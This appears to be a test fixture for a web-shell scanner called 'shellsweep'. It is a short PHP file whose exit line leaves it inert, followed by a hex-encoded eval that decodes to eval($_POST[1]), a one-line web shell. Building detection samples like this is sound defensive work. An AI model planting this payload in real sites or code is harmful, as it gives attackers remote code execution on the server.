<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
eval(hex2bin('6576616c28245f504f53545b315d293b'));
